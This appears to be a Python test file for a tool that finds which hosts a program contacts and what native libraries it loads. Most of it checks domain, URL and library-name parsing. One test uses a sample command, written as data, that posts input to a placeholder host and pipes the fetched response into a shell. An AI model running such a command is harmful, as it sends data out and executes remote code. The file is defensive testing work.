"""Names that survive the next version: whom somebody contacts, how a library is called."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ostiary.program.capabilities.binaries import binary_name
from ostiary.program.capabilities.hosts import host_of, hosts_in, registrable


@pytest.mark.parametrize(
    ("host", "found"),
    [
        ("cdn.eu.example.invalid", "example.invalid"),
        ("user:word@cdn.example.invalid:8443", "example.invalid"),
        ("shop.example.co.uk", "example.co.uk"),
        ("a.b.workers.dev", "b.workers.dev"),
        ("192.0.2.7", "192.0.2.7"),
        ("192.0.2.7:443", "192.0.2.7"),
        ("localhost", ""),
        ("127.0.0.1:8080", ""),
        ("api.localhost", ""),
        ("plain", ""),
        ("\ufffc.example.invalid", ""),
        ("1.2", ""),
        ("a..b", ""),
    ],
)
def test_a_host_is_known_by_what_somebody_registered(host: str, found: str) -> None:
    assert registrable(host) == found


@pytest.mark.parametrize(
    ("target", "found"),
    [
        ("https://v2.api.example.invalid/up?x=1", "example.invalid"),
        ("api.example.invalid:4444", "example.invalid"),
        ("api.example.invalid/path", "example.invalid"),
        ("https://\ufffc/up", ""),
        ("/var/log/app.log", ""),
        ("some words.", ""),
        ("", ""),
    ],
)
def test_an_address_leads_to_a_host(target: str, found: str) -> None:
    assert host_of(target) == found


def test_a_command_may_name_several() -> None:
    text = "curl -d @- https://a.example.invalid/x | sh; wget 'http://b.other.invalid'"
    assert list(hosts_in(text)) == ["example.invalid", "other.invalid"]


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("sample/_fast.cpython-311-x86_64-linux-gnu.so", "_fast"),
        ("sample/_fast.cp312-win_amd64.pyd", "_fast"),
        ("sample/_fast.abi3.so", "_fast"),
        ("sample.libs/libz-1a2b3c4d.so.1.3.1", "libz"),
        ("sample/.dylibs/libz.1.dylib", "libz"),
        ("sample/tool-win64.exe", "tool"),
        ("package/build/Release/addon-linux-x64-musl.node", "addon"),
        ("package/prebuilds/darwin-arm64/addon.node", "addon"),
        ("bin/run", "run"),
        ("lib/x86_64", "x64"),
    ],
)
def test_a_library_is_known_without_version_and_platform(path: str, name: str) -> None:
    assert binary_name(path) == name


@given(st.text(max_size=400))
def test_any_text_has_an_answer(text: str) -> None:
    assert binary_name(text) == binary_name(text)
    assert isinstance(registrable(text), str)
    assert isinstance(host_of(text), str)
    assert all(hosts_in(text))
